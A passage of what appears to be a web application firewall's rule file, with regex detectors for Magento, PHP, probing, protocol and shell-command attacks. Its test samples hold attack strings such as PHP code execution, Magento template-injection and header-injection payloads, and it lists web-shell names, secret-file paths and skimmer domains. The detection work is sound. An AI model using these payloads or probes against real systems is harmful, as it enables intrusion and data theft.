                literals: ["/actuator", "/jolokia", "/invoker/", "/jmx-console", "/web-console", "/solr/", "/struts", "/ws_utc", "/wls-wsat", "/_async/", "/console/", "/manager/html", "/hystrix", "/jenkins", "/functionrouter"]
                parts: [path]
                pattern: '/actuator(?:/|$)|/jolokia|/invoker/(?:jmx|ejb|readonly)|/(?:jmx|web)-console|/solr/(?:admin|\w+/(?:config|dataimport|select))|/(?:ws_utc|wls-wsat|_async)/|/manager/(?:html|text|status)|/functionrouter|/struts/webconsole|/hystrix'
                positive: ["/actuator/env", "/manager/html", "/wls-wsat/CoordinatorPortType"]
                negative: ["/manager/", "/solr-panels", "/console-table"]
            """#
        ),
        (
            "alerts/waf/magento.yaml",
            #"""
            # Magento's own: the holes it had, the doors it has, and what thieves leave behind.
            family: magento
            rules:
              - id: magento-shoplift
                reason: The block directive with a serialized filter (SUPEE-5344, "Shoplift") reaches the database through the admin.
                literals: ["forwarded/", "___directive", "cms_wysiwyg", "block type=", "adminhtml/report_search_grid", "popularity"]
                parts: [path, name, parameter, body]
                pattern: 'cms_wysiwyg/directive|\{\{block\s+type=|^popularity\[(?:from|to|field_expr)\]'
                positive: ["/index.php/admin/Cms_Wysiwyg/directive/index/", "popularity[field_expr]"]
                negative: ["popularity", "wysiwyg editor"]
              - id: magento-trojan-order
                reason: Template directives in a field of an order or an address (CVE-2022-24086, TrojanOrder) run when the mail is sent.
                literals: ["{{", "getfilter", "addafterfiltercallback", "gettemplatefilter", "beforefilter"]
                parts: [name, parameter, body, cookie, header]
                pattern: '\{\{\s*(?:var|if|depend|template|block|layout|widget|store|config|customvar|inlinecss|trans|media|view|protocol|for)\s[^}]*(?:this|\.get|\(|filter|callback)|(?:add)?afterfiltercallback|gettemplatefilter|this\.get\w*filter'
                positive: ["{{var this.getTemplateFilter().addAfterFilterCallback(system).filter(id)}}", "{{if this.getFilter()}}"]
                negative: ["{{name}}", "filter coffee"]
              - id: magento-cosmic-sting
                reason: Nested XML entities through the estimate of shipping costs (CVE-2024-34102, CosmicSting) read app/etc/env.php.
                literals: ["sourcedata", "datasource", "simplexmlelement", "sourceclass", "dataisurl", "estimate-shipping-methods"]
                parts: [name, parameter, body]
                pattern: '"?(?:sourcedata|data_?is_?url|sourceclass)["\]]?\s*[:=]|simplexmlelement'
                positive: ["{\"sourceData\": {\"data\": \"http://x\"}}", "[dataIsURL]=true"]
                negative: ["source data", "estimate shipping"]
              - id: magento-setup
                reason: Installers, downloaders and consoles that a live shop does not show.
                literals: ["/downloader", "/setup/", "/install.php", "/magmi", "/dev/tests", "/adminer", "/var/export", "/rss/catalog/notifystock", "/rss/order/new", "/app/etc", "/errors/local", "/api/xmlrpc", "/var/backups", "/includes/config", "/phpserver/", "/pub/errors/", "/connect.cfg"]
                parts: [path]
                pattern: '^/(?:index\.php/)?(?:pub/)?(?:downloader(?:/|$)|setup/(?:index\.php|#|$)|install\.php|magmi(?:[/-]|$)|dev/tests/|adminer[\w.-]*\.php|var/(?:export|backups|log|report|session|cache)|rss/(?:catalog/notifystock|order/new)|app/etc/|errors/local|includes/config\.php|phpserver/)'
                positive: ["/downloader/index.php", "/magmi/web/magmi.php", "/app/etc/env.php", "/adminer-4.8.1.php"]
                negative: ["/setup-guide", "/download", "/catalog/product"]
                severity: error
              - id: magento-web-shell
                reason: A script in a folder where Magento keeps pictures and styles - nobody but an intruder puts one there.
                literals: ["/media/", "/skin/", "/static/", "/pub/media/", "/js/"]
                parts: [path]
                pattern: '^/(?:pub/)?(?:media|skin|static|js)/(?:[^?]*/)?[^/?]+\.(?:php\d?|phtml|phar)$'
                positive: ["/media/catalog/x.php", "/pub/media/custom_options/quote/a/b.phtml", "/skin/adminhtml/s.php"]
                negative: ["/media/catalog/product/a.jpg", "/static/version1/frontend/x.js", "/js/x.php/other"]
              - id: magento-skimmer
                reason: A script known to carry card data away is loaded or handed in.
                literals: ["magento-analytics", "google-anaiytic", "googie-analytics", "g-analytics.com", "jquery-cdn.top", "mage-cdn", "magento-cdn", "atob(", "webfotce.me", "braintcdn", "jquerycdn.su", "mage-checkout"]
                parts: [parameter, body, referer]
                pattern: 'magento-analytics\.com|google-anaiytic|googie-analytics|g-analytics\.com|jquery-cdn\.top|jquerycdn\.su|mage-(?:cdn|checkout)\.\w+|magento-cdn\.\w+|webfotce\.me|braintcdn'
                positive: ["https://magento-analytics.com/5c.js"]
                negative: ["https://www.google-analytics.com/collect"]
              - id: magento-graphql-introspection
                reason: The whole schema of the GraphQL interface is asked for.
                literals: ["__schema", "introspectionquery", "__type"]
                parts: [parameter, body]
                pattern: '__schema\s*\{|introspectionquery|__type\s*\('
                severity: warning
                positive: ["{__schema{types{name}}}", "query IntrospectionQuery{x}"]
                negative: ["schema", "__typename"]
              - id: magento-customer-file
                reason: A custom option's file upload carries a script (PolyShell, CVE-2022-class uploads) under a picture's name.
                literals: ["file_info", "base64_encoded_data", "custom_options"]
                parts: [body, parameter, name]
                pattern: 'base64_encoded_data.{0,400}(?:pd9wah|pd89|r0lgodlh.{0,40}pd9w)|"name"\s*:\s*"[^"]+\.(?:php|phtml|phar)"'
                positive: ["{\"file_info\":{\"base64_encoded_data\":\"PD9waHAg\"}}"]
                negative: ["{\"file_info\":{\"name\":\"a.jpg\"}}"]
            """#
        ),
        (
            "alerts/waf/php.yaml",
            #"""
            # PHP: code, superglobals, functions that run or read, serialized objects, settings.
            family: php
            definitions:
              strong: 'assert|assert_options|base64_decode|bzdecompress|call_user_func(?:_array)?|chr|create_function|curl_exec|curl_init|dbase_open|define|dl|error_log|escapeshell(?:arg|cmd)|eval|exec|expect_popen|fgets|file|file_exists|file_get_contents|file_put_contents|filegroup|fopen|fputs|fsockopen|fwrite|get_defined_vars|getenv|gzdecode|gzinflate|gzuncompress|highlight_file|include(?:_once)?|ini_(?:get|set)|intval|is_(?:dir|file|int|numeric|readable|writeable)|leak|link|md5_file|mb_ereg_replace|move_uploaded_file|mysqli?_\w+|ob_start|opendir|parse_str|passthru|pcntl_\w+|pfsockopen|phpcredits|phpinfo|phpversion|php_uname|popen|posix_\w+|preg_(?:grep|match\w*|quote|replace\w*|split)|print_r|printf|proc_(?:close|get_status|nice|open|terminate)|putenv|readfile|readgzfile|readlink|register_shutdown_function|require(?:_once)?|rawurl(?:de|en)code|scandir|serialize|session_start|set_include_path|shell_exec|show_source|simplexml_load_\w+|socket_\w+|spl_autoload_register|sprintf|str_(?:rot13|replace|repeat)|stream_\w+|strip_tags|strrev|substr(?:_\w+)?|symlink|sys_get_temp_dir|syslog|system|tempnam|tmpfile|touch|umask|unlink|unpack|unserialize|urldecode|usort|uasort|uksort|var_dump|vprintf|xmlwriter_\w+|yaml_parse\w*|zend_version|zip_\w+|array_(?:map|filter|walk|reduce|diff_u\w+|udiff\w*)|hex2bin|bin2hex|implode|iptcembed|func_get_args?|method_exists|get_class\w*|ftp_\w+|lchown|lchgrp|image\w*2?wbmp'
              weak: 'checkdate|chroot|pi|range|crypt|is_\w+|array_\w+|str\w*|date\w*|floor|mkdir|rmdir|rename|copy|chmod|chown|key|end|count|current|each|list|extract|compact|max|min|round|sort|trim|glob|stat|rand|mt_rand|sleep|usleep|die|exit|print|echo|isset|empty|unset|mail|header|constant|dir|md5|sha1|join|each|log|abs|bcadd|hash\w*|json_\w+|ctype_\w+|gethostby\w+|ip2long|long2ip|settype|gettype|lcg_value|levenshtein|soundex|metaphone|nl2br|similar_text|vsprintf|wordwrap|time|mktime|localtime|idate|strtotime'
            rules:
              - id: php-open-tag
                reason: Code of PHP is opened or closed.
                literals: ["<?", "[php]", "[/php]", "{php}", "{/php}", "[\\php]", "?>"]
                parts: [path, parameter, cookie, body, header, user-agent, referer]
                pattern: '<\?(?:\s*php\b|=|\s+(?:echo|print|system|exec|eval|include|require|passthru|shell_exec|if|for|\$|@|[a-z_]+\s*\()|\s*$|xml\s*[:(])|[\[{][/\\]?php[\]}]'
                positive: ["<?php system('id'); ?>", "<?= 1", "[php]echo 1", "test<?", "%3C%3F%20exec('x')"]
                negative: ["<?xml version='1.0'?>", "php course", "what<"]
              - id: php-function
                reason: A function of PHP that runs, reads, decodes or sends is called; comments before the parenthesis count as blanks.
                literals: ["("]
                pattern: '(?:^|[^a-z0-9_$>.-])(?:{{strong}})(?:\s|/\*[^*]*\*/|(?://|#)[^\n]*\n)*\((?:[^)]*\)|[^)]+$)'
                positive: ["system('id')", "exec /*x*/ ()", "eval(base64_decode('x'))", "fopen (blah)", "phpinfo()", "FILE\r\n()"]
                negative: ["operating system 11", "1alert(1)", "steps.exec 5"]
                parts: [path, name, parameter, cookie, body]
              - id: php-function-weak
                reason: A function of PHP whose name is also a word is called without arguments, with a variable, or behind a comment.
                level: 1
                literals: ["(", "["]
                pattern: '(?:^|[^a-z0-9_$>.-])(?:{{weak}})(?:/\*[^*]*\*/|(?://|#)[^\n]*\n|\s)*\((?:\s*\)|\s*\$|\s*[''"][^''"]*[''"]\s*\))|(?:^|[^a-z0-9_$>.-])(?:{{weak}})(?:/\*[^*]*\*/|(?://|#)[^\n]*\n)\s*\('
                positive: ["checkdate()", "mkdir/*a*/()", "range /*x*/ ($a)", "md5('x')"]
                negative: ["count (12)", "range (size)", "list (red)"]
                parts: [path, name, parameter, cookie, body]
                severity: critical
              - id: php-callback-string
                reason: A function's name in quotes or brackets is called, so that it does not stand before its parenthesis.
                literals: ["\"(", "'(", "](", ")(", "'system", "\"system", "'exec", "'passthru", "\"exec", "return"]
                pattern: '[''"](?:system|exec|passthru|shell_exec|assert|eval|phpinfo|popen|proc_open|print|file_get_contents)[''"]\s*[)\]]*\s*\(|\[[''"]?\w+[''"]?\]\s*\(\s*[\[$''"]|\)\s*\(\s*[''"](?:id|ls|cat|whoami)'
                positive: ["return\"system\"(xyz)", "('exec')('id')"]
                negative: ["(red)(blue)", "'left' (right)"]
              - id: php-superglobal
                reason: A variable that holds the request, the session or the environment.
                literals: ["$_", "$globals", "$http_", "$argc", "$argv", "$php_", "_get[", "_post[", "_request[", "_server[", "globals[", "_cookie[", "_files[", "_session[", "_env["]
                parts: [path, name, parameter, cookie, body, header, user-agent, referer]
                pattern: '\$\s*\{?_?(?:_(?:get|post|cookie|files|server|session|request|env)\b|globals\b|http_(?:\w+_vars|raw_post_data|response_header)|arg[cv]\b|php_(?:self|errormsg))|\b_(?:get|post|request|server|cookie|files|session|env)\s*\[|^globals\s*\['
                positive: ["$_GET['c']", "GLOBALS[x]", "_REQUEST[a]", "$_SERVER"]
                negative: ["globals", "cost $5", "widget[1]"]
              - id: php-variable-call
                reason: A variable is called, indexed or dereferenced as only PHP does it.
                literals: ["$"]
                pattern: '\$+\{?@?[a-z_$\x80-\xff.''-][\w$\x80-\xff.''-]*\}?(?:(?:->|::)[\w{}$]+|\[[^\]]{1,60}\]|\{[^}]{1,60}\}|/\*[^*]*\*/|//[^\n]*\n|\s)*\([^)]{0,200}\)|\$\{@?[\$''\w.-]+(?:->\w+)?\}\s*\(|\$\{[''"][^}]*\}|\$\s+\{|\$\$\w+\s*=|\$\w+\s*=\s*(?:\$|[''"]|new\s|array\s*\()|\$\w+->\w+|\$\w+\s*\[[''"$@]'
                positive: ["$f(101)", "$___[@-_]($x)", "${'a'}(11)", "@$b374k('foo')", "$this->x", "$a['b']"]
                negative: ["$5 (new)", "us$ (100)", "$100"]
                severity: critical
              - id: php-serialized
                reason: A serialized object, which PHP brings to life with its destructors.
                literals: ["o:", "c:", "a:", "s:"]
                parts: [name, parameter, cookie, body, header]
                pattern: '(?:^|[\s;{"''=])[oc]:\+?\d+:\\?"[\w\\]*\\?":\d+:\{|a:\d+:\{[ios]:\d+'
                positive: ["O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", "a:1:{i:0;O:3:\"Foo\":0:{}}"]
                negative: ["ratio:5", "a:b"]
              - id: php-setting
                reason: Directives of php.ini in a request - switched on through a query string or a handler that takes them.
                literals: ["allow_url_include", "auto_prepend_file", "auto_append_file", "disable_functions", "open_basedir", "safe_mode", "suhosin", "display_errors", "memory_limit", "extension_dir", "error_log", "include_path", "register_globals", "cgi.", "session.", "opcache.", "date.timezone", "sendmail_path", "allow_url_fopen", "short_open_tag", "upload_tmp_dir", "max_execution", "unserialize_callback", "mail.", "asp_tags", "expose_php", "enable_dl", "file_uploads", "zend.", "assert.", "variables_order", "post_max_size", "log_errors", "user_ini", "magic_quotes"]
                pattern: '(?:allow_url_(?:include|fopen)|auto_(?:ap|pre)pend_file|disable_(?:functions|classes)|open_basedir|safe_mode\w*|suhosin\.\w+|display_(?:startup_)?errors|memory_limit|extension_dir|error_(?:log|reporting)|include_path|register_globals|cgi\.(?:fix_pathinfo|force_redirect|nph|redirect_\w+)|session\.\w+|opcache\.\w+|date\.timezone|sendmail_(?:path|from)|short_open_tag|upload_tmp_dir|max_execution_time|unserialize_callback_func|mail\.\w+|asp_tags|expose_php|enable_dl|file_uploads|zend\.\w+|assert\.\w+|variables_order|post_max_size|log_errors\w*|user_(?:dir|ini\.\w+)|magic_quotes_\w+)\s*=\s*\S'
                positive: ["-d allow_url_include=1", "memory_limit = 512M", "extension_dir=/x"]
                negative: ["error log", "session. x", "mail.com"]
              - id: php-upload
                reason: A file that PHP would run is uploaded or asked for under a name that hides it.
                literals: [".php", ".phtml", ".phar", ".pht", ".shtml"]
                parts: [parameter, body, header, name]
                pattern: '\.(?:php\d?|phtml|phar|pht|phps)(?:\.{1,3}|\.\w{2,4}|%00|\x00|::\$data|\s|/)?\.(?:jpe?g|png|gif|txt|pdf|bak|old|swp|zip)$|\.(?:php\d?|phtml)(?:::\$data|\.{1,5}$|%20)|(?:^|/)(?:c99|r57|b374k|wso|weevely|alfa|shell|cmd|backdoor|webshell|up(?:load)?er)\w{0,10}\.php'
                positive: ["a.php.jpg", "x.php::$DATA", "/c99.php"]
                negative: ["index.php", "page.php?x=shop.jpg"]
              - id: php-float-loop
                reason: The one number at which reading it never ends in old PHP (CVE-2010-4645) and Java (CVE-2010-4476).
                literals: ["2.225073858507201", "2225073858507201"]
                parts: [path, name, parameter, cookie, body, header]
                pattern: '2\.?225073858507201[0-2]\d*e-?\d{3}'
                positive: ["2.2250738585072011e-308", "2.2250738585072012e-308"]
                negative: ["2.2250738585", "2225073858507201"]
            """#
        ),
        (
            "alerts/waf/probing.yaml",
            #"""
            # Files and consoles that no visitor asks for. One is a hint; it takes several, or a refusal each, to make an offender.
            family: probing
            rules:
              - id: probing-secret-file
                reason: Secrets, repositories, histories and editors' files in the document root.
                view: path
                literals: ["/.env", "/.git", "/.svn", "/.hg", "/.aws", "/.ssh", "/.docker", "/.kube", "/.npmrc", "/.htpasswd", "/.htaccess", "/.ds_store", "/.bash", "/.config", "/.vscode", "/.idea", "/id_rsa", "/.history", "/.netrc", "/.pgpass", "/.my.cnf", "/.claude", "/.cursor", "/.continue", "/.aider", "/.zed", "/.cline", "/.kiro", "/.windsurf", "/.rovodev", "/.codex", "/.opencode", "/.a0proj", "/.plandex", "/.fabric", "/.junie", "/.circleci", "/.travis", "/.gitlab", "/.terraform", "/.s3cfg", "/.boto", "/.azure", "/.gcloud", "/.vault", "/.well-known/../", "/.copilot", "/.gemini", "/.roo", "/.composer", "/.ftpconfig", "/.remote-sync", "/sftp-config", "/.passwd", "/.profile", "/.wp-config", "/.qwen", "/.amazonq", "/.augment", "/.trae", "/.n8n"]
                parts: [path]
                pattern: '/\.(?:env|git|svn|hg|aws|ssh|docker|kube|npmrc|ht(?:passwd|access)|ds_store|bash\w*|config|vscode|idea|history|netrc|pgpass|my\.cnf|claude|cursor|continue|aider|zed|cline|kiro|windsurf|rovodev|codex|opencode|a0proj|plandex|fabric|junie|circleci|travis|gitlab|terraform|s3cfg|boto|azure|gcloud|vault|copilot|gemini|roo|composer|ftpconfig|remote-sync|passwd|profile|wp-config|qwen|amazonq|augment|trae|n8n)(?:[./_~-]|$)|/id_[rd]sa|/sftp-config\.json'
                positive: ["/.env", "/.git/config", "/shop/.aws/credentials", "/.claude/settings.json", "/.env.bak"]
                negative: ["/.well-known/acme-challenge/x", "/environment", "/a.git-hooks"]
              - id: probing-backup
                reason: Dumps and backups of databases and configurations.
                view: path
                literals: [".sql", ".bak", ".old", ".swp", ".tar", ".tgz", ".zip", ".rar", ".7z", ".dump", ".save", ".orig", ".backup", "backup", "~", ".pem", ".rdb", ".key", ".pfx", ".kdbx", ".mdb", ".sqlite"]
                parts: [path]
                pattern: '\.(?:sql|rdb|kdbx|pfx|mdb|sqlite3?)(?:\.(?:gz|zip|bz2|tar|tgz|7z|rar|xz))?$|/(?:priv\w*|server|id_\w+|ssl)?key\.(?:pem|key)$|\.(?:php|jsp|aspx?|py|rb)~(?:/|$)|/(?:backups?|dump|db|database|site|www|web|html|public_html|htdocs|magento|wordpress|shop|old|mysql)[\w.-]*\.(?:tar(?:\.\w+)?|tgz|zip|rar|7z|gz|bak|sql)$|\.(?:php|env|ini|conf|cfg|yml|yaml|xml|json|asp|aspx|jsp)(?:\.(?:bak|old|swp|save|orig|backup|copy|tmp|dist|sample|\d)|~|_bak|\.txt)$|/wp-config\.(?:txt|bak|old|php[^$]+)'
                positive: ["/backup.zip", "/dump.sql.gz", "/index.php.bak", "/www.tar.gz"]
                negative: ["/media/manual.zip", "/old-town.html", "/sql-course"]
              - id: probing-console
                reason: Consoles and information pages of other software.
                view: path
                literals: ["/phpmyadmin", "/phpinfo", "/server-status", "/server-info", "/cgi-bin/", "/vendor/phpunit", "/wp-config", "/adminer", "/_profiler", "/telescope", "/_ignition", "/boaform", "/hnap1", "/owa/", "/autodiscover", "/solr/admin", "/portal/redlion", "/sdk", "/evox", "/geoserver", "/phpunit", "/eval-stdin", "/xmlrpc.php", "/console", "/mysqladmin", "/pma/", "/dbadmin", "/webdav", "/shell", "/setup.cgi", "/gponform", "/manager/html", "/druid/", "/nacos", "/remote/login", "/dana-na", "/vpn/", "/+cscoe+", "/ecp/", "/jenkins", "/script", "/think", "/index.php?s=", "/phpmyadm1n", "/config.json", "/heapdump", "/swagger", "/trace.axd", "/elmah.axd", "/web.config", "/currentsetting", "/debug/default", "/appsettings"]
                parts: [path]
                pattern: '/(?:phpmyadmin|phpmyadm1n|mysqladmin|dbadmin|pma)(?:[/\d._-]|$)|/(?:phpinfo|php-info|info|test|i)\.php$|/server-(?:status|info)$|/cgi-bin/\S|/(?:vendor/)?phpunit/|/eval-stdin|/wp-config\.|/adminer\b|/_(?:profiler|ignition)/|/telescope/|/boaform/|/hnap1|/autodiscover/|/solr/admin|/geoserver/|/(?:c99|r57|b374k|wso|shell|cmd|backdoor|alfa|mini|leaf|up)\d*\.php$|/setup\.cgi|/gponform/|/manager/html|/druid/|/nacos/|/remote/login|/dana-na/|/\+cscoe\+|/ecp/|/heapdump|/(?:trace|elmah)\.axd|/web\.config$|/currentsetting\.htm|/appsettings\.|/evox/about|/sdk$'
                positive: ["/phpmyadmin/index.php", "/cgi-bin/luci", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/server-status"]
                negative: ["/owa", "/console-table", "/shell-jacket.html", "/swagger"]
                severity: warning
              - id: probing-secret-parameter
                reason: A parameter names a secret file or an archive of one.
                view: path
                literals: [".docker/", ".history", ".sql.", "backup.sql", ".credentials", "/secrets", "subuid", "subgid", ".passwd", "credentials.json", "dump.sql", ".sql"]
                parts: [name, parameter, body]
                pattern: '\.docker/|(?:^|/)\.(?:bash_|sh_|zsh_)?history\b|\w+\.sql(?:\.(?:zip|gz|bz2|tar|7z|rar))?$|/etc/sub[ug]id|\.credentials\b|/secrets\b|credentials\.json'
                positive: ["backup.sql.zip", "/path/to/.docker/secrets", "../.history"]
                negative: ["history", "sql course", "secrets of the sea"]
              - id: probing-dot-file
                reason: A hidden file of a home folder, which nobody publishes; one by itself is no more than a mark for those who count them.
                view: path
                literals: ["/.listing", "/.mysql_history", "/.pwd", "/.perf", "/.rhosts", "/.sh_history", "/.subversion", "/.cache", "/.config", "/.cvs", "/.forward", "/.bash", "/.psql_history", "/.python_history", "/.viminfo", "/.login", "/.plan", "/.shosts", "/.lesshst", "/.gitignore", "/.dockerignore", "/.user.ini", "/.mailrc", "/.tcshrc", "/.zshrc", "/.cshrc", "/.netrc", "/.exrc"]
                parts: [path]
                pattern: '/\.(?:listings?|(?:mysql|sh|psql|python)_history|pwd|perf|rhosts|shosts|subversion|cache|config|cvs\w*|forward|bash\w*|viminfo|login|plan|lesshst|gitignore|dockerignore|user\.ini|mailrc|(?:tcsh|zsh|csh)rc|netrc|exrc)(?:/|$)'
                severity: mark
                positive: ["/.listing", "/.bashrc", "/.cvsignore", "/shop/.mysql_history"]
                negative: ["/.well-known/security.txt", "/cache/x", "/a.config"]
              - id: probing-web-shell
                reason: A web shell by the name under which it is handed around.
                view: path
                literals: ["shell", "c99", "r57", "b374k", "wso", "alfa", "backdoor", "cmd.php", "cmd.asp", "webadmin.php", "0byte", "mini.php", "adminer", "filesman", "priv8", "indoxploit"]
                parts: [path]
                pattern: '/(?:[\w.-]*[_.\d-])?(?:web)?shell[\w.-]*\.(?:php\d?|phtml|aspx?|jspx?|cfm|pl)$|/(?:c99|r57|b374k|wso|alfa(?:shell)?|backdoor|filesman|priv8|indoxploit|0byte)[\w.-]*\.(?:php\d?|phtml|aspx?|jspx?)$|/cmd\.(?:php|aspx?|jsp)$'
                severity: warning
                positive: ["/Worse_Linux_Shell.php", "/s72_Shell.php", "/c99.php", "/wso2.php", "/cmd.asp"]
                negative: ["/shell-jacket.html", "/nutshell.php", "/shell/", "/alfa-romeo.html", "/so.php"]
              - id: probing-wordpress-author
                reason: An author by number answers with the name of an account in WordPress; a mark for those who count them.
                literals: ["author="]
                parts: [pair]
                pattern: '^author=\d+$'
                severity: mark
                positive: ["author=3", "author=17"]
                negative: ["author=rowling", "author=", "coauthor=3"]
              - id: probing-wordpress-configuration
                reason: WordPress's configuration, or a copy of it that an editor or a person left behind.
                view: path
                literals: ["wp-config"]
                parts: [path]
                pattern: '/\.?wp-config(?:\.php)?(?:[._~-][\w.~-]*)?$'
                severity: mark
                positive: ["/wp-config.php", "/.wp-config.php.swp", "/wp-config.php~", "/blog/wp-config.bak"]
                negative: ["/wp-content/x", "/wp-configurator/a"]
              - id: probing-panel-login
                reason: The login of a hosting panel; a mark for those who count passwords sent to it.
                literals: ["/apps/login", "/login/?login_only", "/login_up.php", "/cmd_login", "/ispconfig/login", "/session_login.cgi"]
                parts: [path]
                pattern: '^/apps/login$|^/login/?$|^/login_up\.php$|^/cmd_login$|/ispconfig/login|^/session_login\.cgi$'
                severity: mark
                positive: ["/apps/login", "/login_up.php"]
                negative: ["/apps/logins", "/customer/account/login"]
            """#
        ),
        (
            "alerts/waf/protocol.yaml",
            #"""
            # Breaks of the protocol inside of values.
            family: protocol
            rules:
              - id: protocol-header-injection
                reason: A line break and a header's name - the value is meant to end one header and begin another.
                view: raw
                literals: ["%0d", "%0a", "\\r", "\\n", "%250a", "%250d", "%e5%98%8a"]
                parts: [path, name, parameter, cookie, body, header, referer, user-agent]
                pattern: '(?i)(?:%(?:25)?0[da]|%e5%98%8[ad]|\\[rn]|\\x0[da])(?:%0[da]|%20|\s|\+|%09)*(?:content-(?:type|length|disposition|security|encoding)|set-cookie|location|refresh|x-[\w-]+|remote-addr|http/\d|host|transfer-encoding|access-control-[\w-]+|cookie|cache-control|status|referer|user-agent|expires|last-modified|link|vary|via|date|p3p)(?:%0d|%20|\s|%09)*(?:(?::|%3a)(?:%20|%09|\s|\+)*(?:[^%\s]|%[2-9a-f])|/\d)'
                positive: ["x%0d%0aSet-Cookie: a=b", "foobar%0d%0aContent-Length:%200", "a%0aLocation:%20http://x"]
                negative: ["line%0d%0aline", "a%0a%0ahello"]
              - id: protocol-request-smuggling
                reason: A request line stands within a value, for the next server on the way to take for a request of its own.
                literals: ["http/1", "http/0", "http/2"]
                parts: [name, parameter, cookie, body]
                pattern: '(?:^|\n|\s)(?:get|post|head|options|connect|put|delete|trace|track|patch|propfind)\s+\S+\s+http/\d'
                positive: ["x%0d%0aGET /admin HTTP/1.1"]
                negative: ["http/2 explained", "get http/1.1"]
              - id: protocol-response-splitting
                reason: A status line stands behind a line break.
                literals: ["http/1", "http/2", "\n<"]
                parts: [path, name, parameter, cookie, body]
                pattern: '\n\s*http/\d(?:\.\d)?\s+\d{3}|\n\s*<(?:html|meta|body|script)'
                positive: ["x%0d%0a%0d%0aHTTP/1.1 200 OK"]
                negative: ["http/1.1 200"]
              - id: protocol-unix-socket
                reason: A unix socket as the target of a proxy.
                literals: ["unix:"]
                parts: [path, name, parameter, body]
                pattern: '^unix:[^|]{1,400}\|'
                positive: ["unix:AAAA|http://x.example/"]
                negative: ["unix: a history"]
              - id: protocol-invalid-encoding
                reason: A percent sign with digits that are none, many times - a tool's encoding gone wrong, or one meant to be.
                view: raw
                level: 3
                severity: notice
                literals: ["%"]
                pattern: '%(?:[g-zG-Z]|[0-9a-fA-F][g-zG-Z])'
                positive: ["%zz%u"]
                negative: ["50%25"]
              - id: protocol-full-width
                reason: Full-width forms written as %uXXXX - ASCII that wants not to be seen.
                view: raw
                literals: ["%uff"]
                pattern: '(?i)%uff(?:0[0-9a-f]|[1-4][0-9a-f]|5[0-9a-e])'
                positive: ["%uff1cscript", "foo%uFF0F"]
                negative: ["%u30a2", "uff01"]
              - id: protocol-range-flood
                reason: A header with very many ranges makes a server assemble what costs it far more than the request.
                literals: ["bytes="]
                parts: [header]
                pattern: 'bytes=(?:[^,]*,){6}'
                positive: ["bytes=0-1,1-2,2-3,3-4,4-5,5-6,6-7"]
                negative: ["bytes=0-499", "bytes=0-1,5-6"]
            """#
        ),
        (
            "alerts/waf/rce.yaml",
            #"""
            # Commands of Unix and Windows shells. A command's name alone is a word; what makes it a command is what stands before or behind.
            family: rce
            definitions:
              # Commands that probes and intruders run, and hardly a word of a shop.
              unix: '7z[ar]?|apt(?:-get)?|arp|ash|awk|base64|bash|bunzip2|busybox|bzcat|bzip2|cat|chattr|chgrp|chmod|chown|chroot|crontab|csh|curl|dash|dig|dmesg|docker|echo|egrep|env|expr|fgrep|fish|gawk|gcc|gdb|getent|gunzip|gzip|hexdump|hostid|hostname|iconv|id|ifconfig|ip6?tables|journalctl|kill(?:all)?|ksh|ldd|less|ln|ls|lsb_release|lscpu|lsof|lwp-\w+|mawk|mkdir|mkfifo|mknod|mktemp|mount|mysql\w*|nano|nc|ncat|netcat|netstat|nice|nmap|node|nohup|nslookup|openssl|passwd|perl\d?|pgrep|php\d?|pidstat|ping6?|pkill|printenv|printf|ps|ptar|pwd|python[\d.]*|rbash|readelf|rlogin|rm|rmdir|rsync|ruby\d?|scp|sed|set|setsid|sftp|sha\d+sum|sleep|socat|ssh|strings|stty|su|sudo|systemctl|tac|tail|tar|tcpdump|tcsh|tee|telnet|tftp|timeout|touch|tr|traceroute6?|ulimit|umask|uname|unlink|unxz|unzip|uptime|useradd|usermod|vi|vim|vmstat|wc|wget|which|who|whoami|xargs|xxd|xz|yum|zcat|zsh|dd|df|du|date|dir|find|head|export|exec|eval|source|command|true|false|test|w|last|more|file|type|cp|mv|route|ip|host|iwr|iwmi'
              # Those of them, and of Windows', that are no words of a shop or of a text.
              unixonly: '7z[ar]?|apt(?:-get)?|awk|base64|bash|bunzip2|busybox|bzcat|bzip2|chattr|chgrp|chmod|chown|chroot|crontab|csh|dmesg|egrep|fgrep|gawk|gdb|getent|gunzip|gzip|hexdump|hostid|ifconfig|ip6?tables|journalctl|killall|ksh|ldd|lsb_release|lscpu|lsof|lwp-\w+|mawk|mkdir|mkfifo|mknod|mktemp|nc|ncat|netcat|netstat|nmap|nohup|nslookup|openssl|pgrep|pidstat|pkill|printenv|ptar|rbash|readelf|rlogin|rm|rmdir|rsync|scp|setsid|sftp|socat|ssh|stty|sudo|systemctl|tac|tcpdump|tcsh|telnet|tftp|ulimit|umask|uname|unlink|unxz|unzip|useradd|usermod|vmstat|wget|whoami|xargs|xxd|zcat|zsh|iwr|iwmi|reboot|poweroff|shutdown|usleep|xterm|ss|killall'
              windowsonly: 'bitsadmin|bcdboot|bcdedit|bootcfg|cacls|certutil|chkdsk|cmdkey|diskpart|dism|dsquery|forfiles|getmac|gpupdate|klist|mklink|mountvol|nltest|pnputil|qwinsta|robocopy|setx|w32tm|wbadmin|wusa|cmd(?:\.exe|\.com)?|cscript|driverquery|erase|fsutil|gpresult|icacls|ipconfig|mshta|msiexec|nbtstat|net\s+(?:user|view|localgroup|group|start|stop|use|share|accounts)|netsh|nslookup|pathping|powershell(?:\.exe)?|pwsh|query\s+user|reg\s+(?:add|query|delete|save)|regsvr32|rundll32|schtasks|sc\s+(?:query|config|create)|systeminfo|takeown|taskkill|tasklist|tracert|typeperf|vssadmin|wevtutil|whoami|wmic|wscript|xcopy|pushd|popd|ping\.exe'
              # Those that are: what stands around them tells.
              wordy: 'ash|cat|command|curl|date|dash|dir|docker|dig|echo|eval|exec|export|expr|file|find|fish|head|host|history|iconv|info|ip|java|kill|last|less|ln|ls|make|man|mail|more|mount|nano|nice|node|perl\d?|php\d?|ping6?|ps|pwd|python[\d.]*|route|ruby\d?|screen|sed|set|sleep|sort|source|strings|su|tail|tar|tee|test|time|timeout|top|touch|tr|tree|true|false|type|uptime|vi|vim|w|watch|wc|which|who|xz|yum|id|env|du|df|dd|del|copy|move|ren|start|ver|vol|md|rd|net1?|attrib|passwd|hostname|mysql\w*|sh|sha\d+sum|printf|traceroute6?|gcc|arp|cp|mv'
              # Those of these that are short names and hardly words.
              short: 'id|ls|ps|pwd|env|du|df|dd|dir|set|su|sh|wc|vi|ip|cp|mv|hostname|uptime|passwd|arp|w|who|history|netstat|route|ifconfig'
